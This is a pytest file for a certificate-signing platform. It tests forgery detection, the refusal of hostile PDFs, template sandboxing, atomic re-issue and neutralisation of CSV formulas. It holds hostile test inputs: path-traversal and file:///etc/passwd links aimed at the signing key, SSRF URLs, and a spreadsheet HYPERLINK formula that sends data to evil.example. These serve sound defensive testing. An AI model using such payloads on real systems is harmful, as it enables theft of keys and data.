"""A forged, overlaid or edited certificate never passes: not the command line, not the
/verify page, not an ordinary PDF reader (poppler's pdfsig); the genuine file passes all three.
Hostile files never yield a 500, a traceback or a stuck worker; templates read only the
platform's static files; revoke and re-issue are atomic; registers neutralise formulas."""

from __future__ import annotations

import csv
import io
import os
import threading
import zipfile

import pytest
from pypdf import PdfReader
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from certificates import services as certificates
from certificates import signing
from certificates.models import Certificate
from learning import clock
from learning.db import db as _db
from tests.certificates import forgery, steps
from tests.certificates.steps import NAMES
from tests.conftest import translated, visible_text
from tests.courses.steps import new_client


@pytest.fixture
def genuine(app, db, tmp_path):
    """A certificate (valid 24 months) and its PDF as the holder downloads it."""
    steps.course(tmp_path, validity=24)
    holder = steps.official(NAMES[0])
    certificate = steps.complete(holder, now=clock.now())
    return certificate, steps.fetch_pdf(new_client(app, holder), certificate.id)


def verdict_of(app, data: bytes, *, online: bool = True):
    return certificates.check_pdf(data, max_bytes=app.config["VERIFY_MAX_BYTES"],
                                  now=clock.now(),
                                  lookup=certificates.find_by_code if online else None)


def upload(client, data: bytes):
    """Post a PDF to /verify, the multipart body built in memory (the test client spools a
    large one to a temporary file that a refused request would leave open)."""
    upload = FileStorage(io.BytesIO(data), filename="chung-chi.pdf",
                         content_type="application/pdf")
    boundary, body = encode_multipart({"upload-pdf": upload, "csrf_token": client.csrf_token()})
    return client.post("/verify", data=body,
                       content_type=f"multipart/form-data; boundary={boundary}")


def cli_verify(runner, tmp_path, data: bytes, *options):
    path = tmp_path / "to-check.pdf"
    path.write_bytes(data)
    return steps.cli(runner, "verify", *options, path)


# --- the genuine file ------------------------------------------------------------------------

def test_the_genuine_pdf_passes_everywhere(app, client, runner, tmp_path, genuine):
    certificate, data = genuine
    result = cli_verify(runner, tmp_path, data)
    assert result.exit_code == 0, result.output
    assert result.output.startswith(f"genuine: {certificate.serial} — {NAMES[0]}")
    assert cli_verify(runner, tmp_path, data, "--offline").exit_code == 0
    response = upload(client, data)
    text = visible_text(response)
    assert translated("vi", "The PDF is genuine: its signature, signer and credential all "
                            "check out") in text
    # the course's title is marked with the language the credential gives it
    assert f'<dd lang="{certificate.language}">' in response.get_data(as_text=True)
    report = forgery.pdfsig(data, tmp_path)
    assert "Signature Validation: Signature is Valid." in report
    assert "Total document signed" in report


def test_the_pdf_is_a_pades_certification_that_allows_no_change(app, genuine):
    _certificate, data = genuine
    reader = steps.reader(data)
    catalog = reader.trailer["/Root"]
    signature = catalog["/Perms"]["/DocMDP"].get_object()
    assert signature["/SubFilter"] == "/ETSI.CAdES.detached"  # PAdES baseline
    transform = signature["/Reference"][0]["/TransformParams"]
    assert transform["/P"] == 1  # no change allowed: every reader flags any edit
    # still PDF/A-3b with the credential embedded
    root = steps.xmp(data)
    assert steps.xmp_attribute(root, "pdfaid", "part") == "3"
    assert steps.embedded_file(data, "credential.jwt") is not None


def test_the_signing_certificate_is_published(app, client, genuine):
    _certificate, data = genuine
    response = client.get("/verify/signing-certificate.pem")
    assert response.status_code == 200
    [published, *_chain] = signing.load_pem_certificates(response.data)
    from pyhanko.pdf_utils.reader import PdfFileReader
    from cryptography import x509

    embedded = PdfFileReader(io.BytesIO(data)).embedded_signatures[0].signer_cert
    signer = x509.load_der_x509_certificate(embedded.dump())
    assert signing.same_key(published.public_key(), signer.public_key())
    assert published.subject == signer.subject


# --- forgeries -------------------------------------------------------------------------------

FORGERIES = {
    "overlaid name": lambda data, tmp: forgery.overlay_name(data, "Lê Thị Hoa"),
    "added page": lambda data, tmp: forgery.add_page(data),
    "edited metadata": lambda data, tmp: forgery.edit_metadata(data),
    "edited date in place": lambda data, tmp: forgery.edit_in_place(
        data, b"/CreationDate (D:20", b"/CreationDate (D:19"),
    "saved again": lambda data, tmp: forgery.rewrite(data),
}


@pytest.mark.parametrize("how", FORGERIES)
def test_an_edited_pdf_is_altered_everywhere(app, client, runner, tmp_path, genuine, how):
    certificate, data = genuine
    forged = FORGERIES[how](data, tmp_path)
    assert forged != data

    verdict = verdict_of(app, forged)
    assert verdict.outcome == "altered" and verdict.facts == {}, verdict.detail
    result = cli_verify(runner, tmp_path, forged)
    assert result.exit_code == 4, result.output
    assert result.output.startswith("altered:") and "Traceback" not in result.output
    response = upload(client, forged)
    assert response.status_code == 200
    text = visible_text(response)
    assert translated("vi", "The PDF has been altered: it is not the file HọcSố signed") in text
    assert NAMES[0] not in text and certificate.serial not in text  # no unverified facts
    report = forgery.pdfsig(forged, tmp_path)
    assert ("Total document signed" not in report
            or "Signature is Valid" not in report), report


WRAPPINGS = {
    # objects slipped between the two signed ranges, which stay byte for byte as signed: the
    # page shows another name, and pyHanko's coverage check (lengths only) said ENTIRE_FILE
    "a page slipped between the signed ranges": lambda data: forgery.overlay_in_the_gap(
        data, "NGUYEN VAN GIA MAO"),
    # a byte hidden in the zeros that pad the signature value
    "bytes in the signature's padding": forgery.nonzero_padding,
    # the same signature value in lower-case hex: any change to the file is detected
    "the signature value in lower case": forgery.lower_case_value,
}


@pytest.mark.parametrize("how", WRAPPINGS)
def test_a_file_that_keeps_the_signed_bytes_but_adds_its_own_is_altered(
        app, client, runner, tmp_path, genuine, how):
    certificate, data = genuine
    forged = WRAPPINGS[how](data)
    if how.startswith("a page"):  # the forgery works as a document: readers show its page
        shown = PdfReader(io.BytesIO(forged)).pages[0].extract_text()
        assert "NGUYEN VAN GIA MAO" in shown
    verdict = verdict_of(app, forged)
    assert verdict.outcome == "altered" and verdict.facts == {}, verdict.detail
    assert cli_verify(runner, tmp_path, forged).exit_code == 4
    text = visible_text(upload(client, forged))
    assert translated("vi", "The PDF has been altered: it is not the file HọcSố signed") in text
    assert certificate.serial not in text


def test_a_pdf_signed_by_another_key_is_not_genuine(app, client, runner, tmp_path, genuine):
    """A forger renders the platform's template with their name and signs it with a key and
    certificate carrying the platform's very name."""
    certificate, _data = genuine
    unsigned = steps.pdf_with(certificate, certificate.credential_jws, holder_name="Lê Thị Hoa")
    forged = forgery.signed_by(unsigned, forgery.stranger_signer(tmp_path))
    verdict = verdict_of(app, forged)
    assert verdict.outcome == "unknown-signer" and verdict.facts == {}
    result = cli_verify(runner, tmp_path, forged)
    assert result.exit_code == 5 and result.output.startswith("unknown-signer:")
    text = visible_text(upload(client, forged))
    assert translated("vi", "The PDF was not signed by HọcSố") in text
    assert "Lê Thị Hoa" not in text


def test_an_unsigned_render_of_the_template_is_not_genuine(app, runner, tmp_path, genuine):
    certificate, _data = genuine
    unsigned = steps.pdf_with(certificate, certificate.credential_jws)
    assert verdict_of(app, unsigned).outcome == "altered"
    assert cli_verify(runner, tmp_path, unsigned).exit_code == 4


def test_a_signed_pdf_with_a_foreign_credential_is_not_genuine(app, runner, tmp_path,
                                                               genuine):
    """The platform's signature over a file whose credential was signed elsewhere cannot
    happen by accident; the credential check still stands on its own."""
    certificate, _data = genuine
    stranger = forgery.stranger_signer(tmp_path)
    header, payload, _, _ = signing.read_jws(certificate.credential_jws)
    foreign = signing.sign_jws(payload, stranger, kid=f"{header['kid'].split('#')[0]}#"
                                                      f"{stranger.kid}")
    unsigned = steps.pdf_with(certificate, foreign)
    forged = forgery.signed_by(unsigned, certificates.signer())  # as if the key had leaked
    verdict = verdict_of(app, forged)
    assert verdict.outcome == "bad-credential" and verdict.facts == {}
    assert cli_verify(runner, tmp_path, forged).exit_code == 6


def test_online_checks_compare_with_the_record(app, db, runner, tmp_path, genuine):
    certificate, data = genuine
    record = db.session.get(Certificate, certificate.id)
    record.holder_name = "Nguyễn Thị Hường"  # the record says otherwise
    db.session.commit()
    verdict = verdict_of(app, data)
    assert verdict.outcome == "record-differs" and verdict.differences == ["holder_name"]
    assert cli_verify(runner, tmp_path, data).exit_code == 8
    assert cli_verify(runner, tmp_path, data, "--offline").exit_code == 0

    record.code = "zzzzzzzzzzzzzzzzzzzz"  # no record with the file's code
    db.session.commit()
    assert verdict_of(app, data).outcome == "unknown-record"
    assert cli_verify(runner, tmp_path, data).exit_code == 7


def test_revoked_and_expired_are_not_genuine_online(app, db, runner, tmp_path):
    steps.course(tmp_path, validity=24)
    revoked_holder, expired_holder = steps.official(NAMES[1]), steps.official(NAMES[2])
    revoked = steps.complete(revoked_holder, now=clock.now())
    expired = steps.complete(expired_holder, now=steps.add_months(clock.now(), -25))
    revoked_pdf = steps.fetch_pdf(new_client(app, revoked_holder), revoked.id)
    expired_pdf = steps.fetch_pdf(new_client(app, expired_holder), expired.id)
    certificates.revoke(steps.hr_official(), steps.reload(revoked), "Cấp nhầm người",
                        now=clock.now(), category="issued_in_error")
    db.session.commit()

    result = cli_verify(runner, tmp_path, revoked_pdf)
    assert result.exit_code == 9 and "(issued_in_error)" in result.output
    assert "Cấp nhầm người" not in result.output
    result = cli_verify(runner, tmp_path, expired_pdf)
    assert result.exit_code == 10
    assert f"expired on {steps.local_date(steps.reload(expired).expires_at)}" in result.output
    for data in (revoked_pdf, expired_pdf):  # offline, the file alone is genuine
        assert cli_verify(runner, tmp_path, data, "--offline").exit_code == 0


# --- hostile files ---------------------------------------------------------------------------

HOSTILE = {
    "5000 pages sharing one stream": lambda genuine: forgery.many_pages(5000),
    "flate bomb in a page": lambda genuine: forgery.flate_bomb_page(200),
    "flate bomb in the xref stream": lambda genuine: forgery.flate_bomb_xref(200),
    "deep nesting": lambda genuine: forgery.deep_nesting(200_000),
    "a page tree that loops": lambda genuine: forgery.looping_pages(),
    "empty": lambda genuine: b"",
    "not a PDF": lambda genuine: b"GIF89a" + os.urandom(2000),
    "truncated": lambda genuine: genuine[: len(genuine) // 2],
    **{f"flipped bytes #{seed}": (lambda genuine, seed=seed: forgery.flip_bytes(genuine, 8,
                                                                                seed))
       for seed in range(6)},
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_is_refused_cleanly(app, client, runner, tmp_path, genuine, kind):
    _certificate, data = genuine
    hostile = HOSTILE[kind](data)
    assert len(hostile) <= app.config["VERIFY_MAX_BYTES"], "test file over the size cap"
    verdict = verdict_of(app, hostile)
    assert not verdict.genuine and verdict.facts == {}
    assert verdict.outcome in ("not-a-certificate", "altered", "bad-credential"), verdict
    result = cli_verify(runner, tmp_path, hostile)
    assert result.exit_code in (3, 4, 6) and "Traceback" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    response = upload(client, hostile)
    assert response.status_code in (200, 400), response.status_code


def test_many_pages_are_refused_before_anything_is_extracted(app):
    verdict = verdict_of(app, forgery.many_pages(5000))
    assert verdict.outcome == "not-a-certificate"
    assert "more pages than a certificate has" in verdict.detail


def test_an_upload_over_the_size_cap_is_refused_unread(app, client, runner, tmp_path):
    cap = app.config["VERIFY_MAX_BYTES"]
    response = upload(client, b"%PDF-1.7\n" + b"0" * (cap + 200 * 1024))
    assert response.status_code == 413  # refused before the body is read
    assert translated("vi", "The file is too large") in visible_text(response)
    oversize = b"%PDF-1.7\n" + b"0" * (cap + 10)
    response = upload(client, oversize)
    assert response.status_code == 200
    assert translated("vi", "This file is not a HọcSố certificate") in visible_text(response)
    result = cli_verify(runner, tmp_path, oversize)
    assert result.exit_code == 3 and "larger than a certificate" in result.output


# --- templates read only the static folder ---------------------------------------------------

ATTACKS = [
    '<link rel="attachment" href="../../instance/signing-key.pem#/../../learning/static/'
    'favicon.svg">',
    '<link rel="attachment" href="../../instance/signing-key.pem?x=/favicon.svg">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<link rel="attachment" href="%2e%2e/%2e%2e/instance/signing-key.pem">',
    '<link rel="attachment" href="{{ static }}/../../instance/signing-key.pem">',
    '<link rel="attachment" href="{{ static }}/escape-link">',
    '<img src="file:///etc/hostname">',
]


def test_a_course_template_reads_nothing_outside_the_static_folder(app, db, tmp_path):
    from certificates import render

    static = render.STATIC_DIR
    link = static / "escape-link"
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    if link.is_symlink() or link.exists():
        link.unlink()
    link.symlink_to(secret)
    try:
        template = render.default_template().replace("</body>", "\n".join(ATTACKS) +
                                                     "</body>")
        steps.course(tmp_path, template=template)
        holder = steps.official()
        certificate = steps.complete(holder)
        data = steps.fetch_pdf(new_client(app, holder), certificate.id)
    finally:
        link.unlink()
    key = (app.config["INSTANCE_DIR"] + "/signing-key.pem")
    attachments = set(steps.reader(data).attachments)
    assert attachments == {"credential.jwt"}, attachments
    assert b"PRIVATE KEY" not in data and b"TOP-SECRET" not in data
    assert b"root:" not in data
    assert os.path.exists(key)


def test_the_fetcher_refuses_every_escape(app):
    from certificates.render import STATIC_DIR, LocalURLFetcher

    fetcher = LocalURLFetcher()
    base = STATIC_DIR.as_uri()
    assert fetcher.fetch(f"{base}/favicon.svg").read().startswith(b"<svg")
    for url in (f"{base}/../../instance/signing-key.pem#/../../learning/static/favicon.svg",
                f"{base}/../../instance/signing-key.pem?x=/favicon.svg",
                f"{base}/%2e%2e/%2e%2e/pyproject.toml", "file:///etc/passwd",
                "file://otherhost/etc/passwd", "http://127.0.0.1:5000/healthz",
                f"{base}/fonts"):
        with pytest.raises(ValueError):
            fetcher.fetch(url)


# --- races -----------------------------------------------------------------------------------

def test_parallel_re_issues_give_exactly_one_replacement(app, db, tmp_path, genuine):
    certificate, _data = genuine
    hr = steps.hr_official()
    db.session.commit()
    hr_id, certificate_id = hr.id, certificate.id
    barrier = threading.Barrier(10)
    outcomes: list[str] = []

    def reissue(number: int):
        with app.app_context():
            actor = _db.session.get(type(hr), hr_id)
            target = _db.session.get(Certificate, certificate_id)
            barrier.wait()
            try:
                certificates.reissue(actor, target, f"Sửa tên lần {number}", now=clock.now())
                _db.session.commit()
                outcomes.append(f"ok {number}")
            except Exception as error:  # noqa: BLE001 - the losers' errors are the point
                _db.session.rollback()
                outcomes.append(type(error).__name__)
            finally:
                _db.session.remove()

    threads = [threading.Thread(target=reissue, args=(n,)) for n in range(10)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    db.session.expire_all()
    winners = [o for o in outcomes if o.startswith("ok")]
    assert len(winners) == 1 and len(outcomes) == 10, outcomes
    replacements = db.session.scalars(select(Certificate).where(
        Certificate.previous_id == certificate_id)).all()
    assert len(replacements) == 1
    original = db.session.get(Certificate, certificate_id)
    assert original.revoked_reason == f"Sửa tên lần {winners[0].split()[1]}"
    assert original.revocation_category == "replaced"
    assert all(o == "RuleViolation" for o in outcomes if not o.startswith("ok")), outcomes


# --- spreadsheet formulas --------------------------------------------------------------------

def test_the_register_neutralises_formulas(app, db, tmp_path):
    steps.course(tmp_path)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+84 912", "-1+2",
             "@SUM(A1)", "\tTab", "Nguyễn Văn An"]
    for name in names:
        steps.complete(steps.official(name))
    db.session.commit()
    data, count = certificates.export_zip(None, department=None, course=None, workers=1,
                                          now=clock.now())
    assert count == len(names)
    register = zipfile.ZipFile(io.BytesIO(data)).read("register.csv").decode("utf-8-sig")
    shown = {row["holder_name"] for row in csv.DictReader(io.StringIO(register))}
    assert shown == {"'" + n for n in names[:-1]} | {"Nguyễn Văn An"}
    for row in csv.reader(io.StringIO(register)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
